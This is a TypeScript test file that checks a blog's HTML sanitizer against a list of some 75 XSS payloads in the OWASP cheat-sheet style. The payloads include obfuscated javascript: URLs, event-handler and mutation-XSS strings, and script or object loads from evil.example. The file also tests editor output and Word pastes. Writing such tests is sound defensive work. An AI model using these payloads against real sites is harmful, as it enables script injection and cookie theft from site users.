import { createHash } from 'node:crypto';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { SANITIZE_RULES, sanitizePostHtml } from './sanitize';

const ALLOWED_TAGS = new Set(
  'p h2 h3 h4 strong em u s a ul ol li blockquote br hr code pre img figure figcaption table thead tbody tr th td'.split(
    ' ',
  ),
);
const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'target', 'rel'],
  img: ['src', 'alt', 'width', 'height'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
  ol: ['start'],
};

/** Every element and attribute of the output, as a browser's parser would see them. */
function elementsOf(html: string) {
  const found: { tag: string; attribs: Record<string, string> }[] = [];
  const parser = new Parser(
    { onopentag: (tag, attribs) => found.push({ tag, attribs }) },
    { decodeEntities: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

/** What makes output script-capable: any tag, attribute or URL outside the allowlist. */
function problemsOf(html: string): string[] {
  const problems: string[] = [];
  for (const { tag, attribs } of elementsOf(html)) {
    if (!ALLOWED_TAGS.has(tag)) problems.push(`tag <${tag}>`);
    for (const [name, value] of Object.entries(attribs)) {
      const allowed =
        name === 'dir' ? ['rtl', 'ltr', 'auto'].includes(value) : ALLOWED_ATTRIBUTES[tag]?.includes(name);
      if (!allowed) problems.push(`<${tag} ${name}="${value}">`);
      if (name === 'href') {
        const url = new URL(value, 'https://site.example/blog/x');
        if (!['http:', 'https:', 'mailto:', 'tel:'].includes(url.protocol)) problems.push(`href ${value}`);
      }
      if (name === 'src' && !/^\/(media|images)\/[\w/.-]+$/.test(value)) problems.push(`src ${value}`);
      if (name === 'src' && new URL(value, 'https://site.example/').origin !== 'https://site.example')
        problems.push(`src ${value}`);
    }
  }
  return problems;
}

// OWASP XSS Filter Evasion Cheat Sheet style payloads, plus mutation-XSS classics
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>',
  '<a href="jav\tascript:alert(\'XSS\');">x</a>',
  '<a href="jav&#x09;ascript:alert(\'XSS\');">x</a>',
  '<a href="jav&#x0A;ascript:alert(\'XSS\');">x</a>',
  '<a href="jav&#x0D;ascript:alert(\'XSS\');">x</a>',
  '<a href=" &#14;  javascript:alert(\'XSS\');">x</a>',
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=https://evil.example/xss.js?< B >',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TR><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></TR></TABLE>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="/\\evil.example/">backslash</a>',
  '<img src="https://evil.example/tracker.png">',
  '<img src="//evil.example/x.png">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="/media/../api/admin/blog">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<p id="__proto__" class="x" onclick="alert(1)" data-x="1">attributes</p>',
  '<a href="javascript:alert(1)" target="_self">x</a>',
  '<p dir="rtl;background:url(javascript:alert(1))">x</p>',
  '<td colspan="2 onmouseover=alert(1)">x</td>',
  '<img src="/media/blog/x/hero.webp" width="100%;x:expression(alert(1))" alt="a">',
];

describe('sanitizePostHtml against XSS payloads', () => {
  it('has a list of at least 40 payloads', () => expect(payloads.length).toBeGreaterThanOrEqual(40));

  it.each(payloads.map((p, i) => [i, p]))('payload %i leaves nothing script-capable', (_i, payload) => {
    const out = sanitizePostHtml(payload as string);
    expect(problemsOf(out)).toEqual([]);
    // nothing outside the allowlist survives as markup, and it is stable: sanitizing again changes nothing
    expect(sanitizePostHtml(out)).toBe(out);
  });
});

describe('SANITIZE_RULES', () => {
  // What the rules make of every payload and of the editor's elements, as one digest. A change to the
  // rules changes it: then change SANITIZE_RULES too (stored posts are sanitized again at the next start,
  // clean-content.ts) and pin the new pair here.
  const pinned: Record<string, string> = {
    'post-html-1': 'Yqik-sougcju74B1ssosAEKmKu0lHgLXtDDcqSWDizk',
  };

  it('names the rules that make these outputs', () => {
    const sample = [
      ...payloads,
      '<h1 dir="RTL">א</h1><h5>ב</h5><h6>ג</h6><b>ד</b><i>ה</i><strike>ו</strike><del>ז</del>',
      '<ol start="3"><li>a</li></ol><table><tr><th colspan="2" rowspan="x">h</th><td rowspan="3">d</td></tr></table>',
      '<a href="https://example.com">out</a><a href="/blog">in</a><a href="mailto:a@b.example">m</a>',
      '<img src="/images/blog/a.svg" width="10" height="0"><img src="/media/blog/x/hero.webp">',
      '<figure><img src="/images/a.png" alt="x"><figcaption>c</figcaption></figure><pre><code>x</code></pre><hr><br>',
    ];
    const digest = createHash('sha256').update(sample.map(sanitizePostHtml).join('\n')).digest('base64url');
    expect({ rules: SANITIZE_RULES, digest }).toEqual({
      rules: SANITIZE_RULES,
      digest: pinned[SANITIZE_RULES],
    });
  });
});

describe('sanitizePostHtml on what the editor writes', () => {
  it('keeps the structure the editor produces', () => {
    const html =
      '<h2 dir="rtl">כותרת</h2><h3>משנה</h3><h4>קטן</h4><p>טקסט <strong>מודגש</strong> <em>נטוי</em> <u>קו</u> <s>מחוק</s> <code>x</code></p>' +
      '<ul><li>א</li></ul><ol start="3"><li>ב</li></ol><blockquote><p>ציטוט</p></blockquote><hr><pre><code>a &lt; b</code></pre>' +
      '<figure><img width="640" height="360" src="/media/blog/8c1d6a3e-1f0b-4c3a-9b1e-2a4d5e6f7a8b/hero.webp" alt="תמונה"><figcaption>כיתוב</figcaption></figure>' +
      '<table><thead><tr><th colspan="2">ראש</th></tr></thead><tbody><tr><td rowspan="2">תא</td><td>תא</td></tr></tbody></table>';
    expect(sanitizePostHtml(html)).toBe(html.replace('<hr>', '<hr />').replace(/(<img[^>]*)>/, '$1 />'));
  });

  it('makes h1 an h2 (the page has one h1) and b/i strong/em', () => {
    expect(sanitizePostHtml('<h1>א</h1><b>ב</b><i>ג</i>')).toBe('<h2>א</h2><strong>ב</strong><em>ג</em>');
  });

  it('opens external links in a new tab without access to the opener, and leaves internal ones', () => {
    expect(sanitizePostHtml('<a href="https://www.gov.il/x">gov</a>')).toBe(
      '<a href="https://www.gov.il/x" target="_blank" rel="noopener noreferrer">gov</a>',
    );
    expect(sanitizePostHtml('<a href="/travel" target="_blank" rel="opener">in</a>')).toBe(
      '<a href="/travel">in</a>',
    );
    expect(sanitizePostHtml('<a href="mailto:a@b.co">m</a><a href="tel:+97231234567">t</a>')).toBe(
      '<a href="mailto:a@b.co">m</a><a href="tel:+97231234567">t</a>',
    );
  });

  it("keeps links to the site's own pages by path, and no path a browser reads as another site", () => {
    for (const href of ['/contact', '/', '/blog/%D7%90?x=1#top', '/travel#step-2'])
      expect(sanitizePostHtml(`<a href="${href}">in</a>`)).toBe(`<a href="${href}">in</a>`);
    for (const href of [
      '//evil.example/contact',
      '/\\evil.example',
      '\\\\evil.example',
      'javascript:alert(1)',
    ])
      expect(sanitizePostHtml(`<a href="${href}">x</a>`)).toBe('<a>x</a>');
  });

  it('drops images from anywhere but our storage and the site, and non-numeric sizes', () => {
    expect(sanitizePostHtml('<p><img src="https://evil.example/a.png" alt="x">א</p>')).toBe('<p>א</p>');
    expect(sanitizePostHtml('<img src="/images/blog/default.svg" width="abc" height="10">')).toBe(
      '<img height="10" src="/images/blog/default.svg" alt="" />',
    );
  });
});

describe('sanitizePostHtml on a paste from Word', () => {
  const word = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Microsoft Word 15">
<!--[if gte mso 9]><xml><o:DocumentProperties><o:Author>x</o:Author></o:DocumentProperties></xml><![endif]-->
<style><!-- p.MsoNormal {mso-style-parent:""; margin:0cm; font-family:"Arial",sans-serif;} --></style></head>
<body lang=HE style='tab-interval:36.0pt'><div class=WordSection1 dir=RTL>
<h1 dir=RTL style='mso-margin-top-alt:auto'><span lang=HE style='font-family:"Arial",sans-serif'>ביטוח נסיעות<o:p></o:p></span></h1>
<p class=MsoNormal dir=RTL><b><span lang=HE style='mso-bidi-font-family:Arial'>חשוב:</span></b><span lang=HE> לבדוק את הפוליסה<o:p></o:p></span></p>
<ul style='margin-top:0cm' type=disc><li class=MsoNormal style='mso-list:l0 level1 lfo1'><span lang=HE>מזוודות</span></li></ul>
<table class=MsoTableGrid border=1 style='border-collapse:collapse;mso-yfti-tbllook:1184'><tr style='mso-yfti-irow:0'><td width=200 valign=top style='width:150pt'><p class=MsoNormal><font face="Arial">כיסוי</font></p></td></tr></table>
<!--[if !supportLists]--><span style='mso-list:Ignore'>·</span><!--[endif]-->
</div></body></html>`;

  it('keeps headings, bold, lists and tables, and drops the styles, classes, comments and Office tags', () => {
    const out = sanitizePostHtml(word);
    expect(out).toContain('<h2 dir="rtl">ביטוח נסיעות</h2>');
    expect(out).toContain('<p dir="rtl"><strong>חשוב:</strong> לבדוק את הפוליסה</p>');
    expect(out).toContain('<ul><li>מזוודות</li></ul>');
    expect(out).toContain('<table><tr><td><p>כיסוי</p></td></tr></table>');
    for (const junk of [
      'mso-',
      'class=',
      'style=',
      'o:p',
      '<font',
      '<!--',
      'Author',
      'MsoNormal',
      '<span',
      'lang=',
    ])
      expect(out).not.toContain(junk);
    expect(problemsOf(out)).toEqual([]);
  });
});
